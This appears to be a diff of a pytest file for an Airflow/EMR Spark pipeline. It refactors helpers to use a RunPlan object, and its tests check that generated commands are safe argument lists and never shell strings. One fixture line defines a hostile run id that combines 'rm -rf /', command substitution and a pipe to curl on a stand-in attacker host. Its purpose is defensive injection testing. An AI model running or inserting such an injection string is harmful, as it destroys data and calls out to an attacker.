@@ -10,7 +10,10 @@ import pytest
 from airflow.sdk.definitions.param import ParamValidationError
 
 from include import pipeline as P
-from include.dag_factory import backfill_params, nightly_params, plan_backfill, plan_nightly
+from include.lineage import spark_properties
+from include.params import backfill_params, nightly_params
+from include.planning import plan_backfill, plan_nightly
+from include.run_plan import BACKFILL_TASK_ID, RunPlan
 from include.settings import load_settings
 from spark_jobs.cli import parse_args
 from tests.harness.aws_fakes import job_args
@@ -165,10 +168,12 @@ SAFE_TOKEN = re.compile(r"^[A-Za-z0-9_.:/=+@-]+$")  # no space, quote, ; | & $ `
 HOSTILE_RUN_ID = "manual__2024-07-01; rm -rf / $(id) `id`\n|curl evil.example"
 
 
-def _emr_steps(plan: dict) -> list[dict]:
-    if "batches" in plan:
-        return [step for batch in plan["batches"] for step in batch]
-    return [step for key, steps in plan.items() if key.startswith("step:") for step in steps]
+def _emr_steps(plan: RunPlan) -> list[dict]:
+    """Every EMR step the run's tasks render from its plan (as the targets do, lineage on)."""
+    conf = spark_properties(EMR)
+    if {p.task_id for p in plan.steps} == {BACKFILL_TASK_ID}:
+        return [step for batch in plan.emr_batches(conf) for step in batch]
+    return [step for p in plan.steps for step in plan.emr_steps(p.step, conf)]
 
 
 @pytest.mark.parametrize("kind", ["nightly", "backfill"])
@@ -194,7 +199,7 @@ def test_emr_steps_are_spark_submit_argument_lists_of_safe_tokens_never_a_shell(
         # the hostile run id only shows up sanitised, in the step's name
         assert "rm -rf" not in " ".join(args)
         assert SAFE_TOKEN.match(step["Name"].replace("|", "")), step["Name"]
-    tags = plan["job_flow_overrides"]["Tags"]
+    tags = plan.cluster["Tags"]
     run_tag = next(t["Value"] for t in tags if t["Key"] == "run_id")
     assert SAFE_TOKEN.match(run_tag), run_tag
 
@@ -202,11 +207,7 @@ def test_emr_steps_are_spark_submit_argument_lists_of_safe_tokens_never_a_shell(
 @pytest.mark.parametrize("kind", ["nightly", "backfill"])
 def test_local_commands_are_argument_lists_of_safe_tokens(kind):
     plan = _nightly(LOCAL, ingest_start_ds="2024-06-01") if kind == "nightly" else _backfill(LOCAL)
-    commands = (
-        plan["commands"]
-        if "commands" in plan
-        else [c for key, cmds in plan.items() if key.startswith("step:") for c in cmds]
-    )
+    commands = plan.commands()  # every selected step's, in the order they run
     assert commands
     for args in commands:
         assert isinstance(args, list)
